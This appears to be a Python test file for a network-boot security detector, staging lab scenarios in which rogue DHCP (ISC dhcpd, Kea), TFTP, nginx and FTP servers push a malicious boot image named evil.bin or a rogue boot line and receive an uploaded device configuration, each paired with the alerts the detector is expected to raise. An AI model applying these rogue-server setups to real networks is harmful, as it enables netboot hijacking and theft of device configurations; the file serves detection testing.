"""The same stories told by servers of other makers: ISC dhcpd, Kea, atftpd, nginx, pyftpdlib."""

from __future__ import annotations

import json

from bootwarden.lab import daemons
from bootwarden.lab.acts.boots import APPROVED, EVIL
from bootwarden.lab.model import act
from bootwarden.lab.namespaces import CABLE, mac
from bootwarden.lab.programs import listens
from bootwarden.lab.stage import Stage
from bootwarden.scenarios.model import Notice
from bootwarden.scenarios.sites import BOOT_SERVER, DHCP_SERVER, IMAGE
from bootwarden.traffic import images

CONFIG = images.config("edge74", ("boot system tftp://10.0.6.174/evil.bin",))

ISC = """\
authoritative;
ddns-update-style none;
subnet 10.0.0.0 netmask 255.0.0.0 {{ }}
host device {{
  hardware ethernet {hardware};
  fixed-address {address};
  filename "{name}";
  next-server {server};
  option tftp-server-name "{server}";
}}
"""


@act(
    scenario="bw30-boots-of-the-lab",
    hosts={"device": "10.0.1.71", "rogue": "10.0.6.171"},
    unaddressed=("device",),
    needs=("dhcpd", "busybox", "in.tftpd", "atftp"),
    notices=(
        Notice("Rogue_Boot_Options", "10.0.1.71", "10.0.6.171", IMAGE),
        Notice("Unauthorized_Boot_Server", "10.0.1.71", "10.0.6.171", IMAGE),
        Notice("Modified_Image", "10.0.1.71", "10.0.6.171", IMAGE),
        Notice("Netboot_Hijack", "10.0.1.71", "10.0.6.171", IMAGE),
    ),
    raises=[
        ("BW01", 0, "10.0.6.171", "10.0.1.71"),
        ("BW10", 0, "10.0.6.171", "10.0.1.71"),
        ("BW21", 0, "10.0.6.171", "10.0.1.71"),
        ("BW30", 3, "10.0.6.171", "10.0.1.71"),
    ],
)
def rogue_isc_dhcp(stage: Stage) -> None:
    """ISC dhcpd leases with a rogue boot server; the device's client asks for all options."""
    daemons.tftpd(stage, "rogue", {IMAGE: EVIL})
    known = {"hardware": mac("10.0.1.71"), "address": "10.0.1.71", "name": IMAGE, "server": "10.0.6.171"}
    config, leases = stage.file("dhcpd.conf", ISC.format(**known)), stage.file("leases", "")
    words = ("-4", "-f", "-user", "root", "-group", "root", "-cf", config, "-lf", leases, "-pf", stage.folder / "pid")
    stage.serve("rogue", "dhcpd", *words, CABLE, ready=listens("udp", 67))
    said = daemons.lease(stage, "device")
    options = (word for option in ("tsize 0", "blksize 1428", "timeout 2") for word in ("--option", option))
    stage.run("device", "atftp", *options, "--get", "-r", said["boot_file"], "-l", "got", said["siaddr"])
    stage.same((stage.folder / "got").read_bytes(), EVIL)


@act(
    scenario="tftp-options-multicast-to-the-group",
    hosts={"device": "10.0.1.72", "boot": BOOT_SERVER},
    needs=("atftpd", "atftp"),
    transfers=({"file_name": IMAGE, "status": "complete", "kind": "cisco-ios", "size": len(APPROVED)},),
)
def multicast_image(stage: Stage) -> None:
    """The approved image comes by multicast (RFC 2090) from the declared server, which is atftpd."""
    root = stage.file(f"boot-tftp/{IMAGE}", APPROVED).parent
    daemons.atftpd(stage, "boot", root, "--mcast-addr", "239.255.0.32", "--mcast-port", "1758", "--mcast-ttl", "1")
    stage.run("device", "atftp", "--option", "multicast ,,", "--get", "-r", IMAGE, "-l", "got", BOOT_SERVER)
    stage.same((stage.folder / "got").read_bytes(), APPROVED)


@act(
    scenario="bw30-boots-of-the-lab",
    hosts={"device": "10.0.1.73", "dhcp": DHCP_SERVER},
    unaddressed=("device",),
    needs=("kea-dhcp4", "busybox"),
    notices=(Notice("Rogue_Boot_Options", "10.0.1.73", "10.0.6.173", "evil.bin"),),
    raises=[("BW01", 1, DHCP_SERVER, "10.0.1.73")],
)
def kea_names_a_rogue(stage: Stage) -> None:
    """The declared DHCP server (Kea) was made to name a rogue boot server, in options 66 and 67."""
    names = {"tftp-server-name": "10.0.6.173", "boot-file-name": "evil.bin"}
    device = {
        "hw-address": mac("10.0.1.73"),
        "ip-address": "10.0.1.73",
        "option-data": [{"name": n, "data": d, "always-send": True} for n, d in names.items()],
    }
    config = {
        "Dhcp4": {
            "interfaces-config": {"interfaces": [CABLE]},
            "lease-database": {"type": "memfile", "persist": False},
            "host-reservation-identifiers": ["hw-address"],
            "subnet4": [{"id": 1, "subnet": "10.0.0.0/8", "reservations": [device]}],
            "loggers": [{"name": "kea-dhcp4", "output_options": [{"output": "stdout"}], "severity": "INFO"}],
        }
    }
    path = stage.file("kea.json", json.dumps(config))
    settings = (f"KEA_PIDFILE_DIR={stage.folder}", f"KEA_LOCKFILE_DIR={stage.folder}")
    stage.serve("dhcp", "/usr/bin/env", *settings, "kea-dhcp4", "-c", path, ready=listens("udp", 67))
    daemons.lease(stage, "device")


NGINX = """\
daemon off;
error_log stderr;
pid {folder}/nginx.pid;
events {{ }}
http {{
  access_log off;
  client_body_temp_path {folder}/body; proxy_temp_path {folder}/proxy; fastcgi_temp_path {folder}/fastcgi;
  uwsgi_temp_path {folder}/uwsgi; scgi_temp_path {folder}/scgi;
  gzip on; gzip_min_length 1; gzip_types text/plain; default_type text/plain;
  server {{ listen {address}:80; root {folder}/www; }}
}}
"""


@act(
    scenario="bw30-orders-of-the-lab",
    hosts={"device": "10.0.1.74", "rogue": "10.0.6.174"},
    needs=("nginx", "curl"),
    notices=(
        Notice("Unauthorized_Boot_Server", "10.0.1.74", "10.0.6.174", "/edge74-confg"),
        Notice("Boot_Config_Served", "10.0.1.74", "10.0.6.174", "/edge74-confg"),
    ),
    raises=[("BW08", 2, "10.0.6.174", "10.0.1.74"), ("BW10", 11, "10.0.6.174", "10.0.1.74")],
)
def packed_config(stage: Stage) -> None:
    """A device takes a configuration with a rogue boot line from nginx, which packs it (gzip, chunked)."""
    stage.file("www/edge74-confg", CONFIG)
    config = stage.file("nginx.conf", NGINX.format(folder=stage.folder, address="10.0.6.174"))
    stage.serve("rogue", "nginx", "-c", config, "-p", stage.folder, ready=listens("tcp", 80))
    words = ("--silent", "--compressed", "--output", "got", "http://10.0.6.174/edge74-confg")
    stage.run("device", "curl", *words)
    stage.same((stage.folder / "got").read_bytes(), CONFIG)


@act(
    scenario="bw30-orders-of-the-lab",
    hosts={"device": "10.0.1.75", "rogue": "10.0.6.175"},
    needs=("pyftpdlib", "curl"),
    notices=(
        Notice("Unauthorized_Boot_Server", "10.0.1.75", "10.0.6.175", IMAGE),
        Notice("Modified_Image", "10.0.1.75", "10.0.6.175", IMAGE),
        Notice("Config_Exfiltration", "10.0.1.75", "10.0.6.175", "edge75-confg"),
    ),
    raises=[("BW10", 12, "10.0.6.175", "10.0.1.75")],
    # The data may come to another worker before the nodes have told each other that it is FTP's.
    unseen_on_cluster=(IMAGE, "edge75-confg"),
)
def ftp_both_ways(stage: Stage) -> None:
    """A device loads an image from a rogue FTP server (pyftpdlib, EPSV) and saves its configuration there."""
    root = stage.file(f"ftp/{IMAGE}", EVIL).parent
    words = ("-m", "pyftpdlib", "-i", "10.0.6.175", "-p", "21", "-w", "-d", root)
    stage.serve("rogue", "/usr/bin/python3", *words, ready=listens("tcp", 21))
    stage.run("device", "curl", "--silent", "--output", "got", f"ftp://10.0.6.175/{IMAGE}")
    stage.same((stage.folder / "got").read_bytes(), EVIL)
    config = stage.file("running-config", images.config("edge75"))
    stage.run("device", "curl", "--silent", "-T", config, "ftp://10.0.6.175/edge75-confg")
    stage.same((root / "edge75-confg").read_bytes(), config.read_bytes())
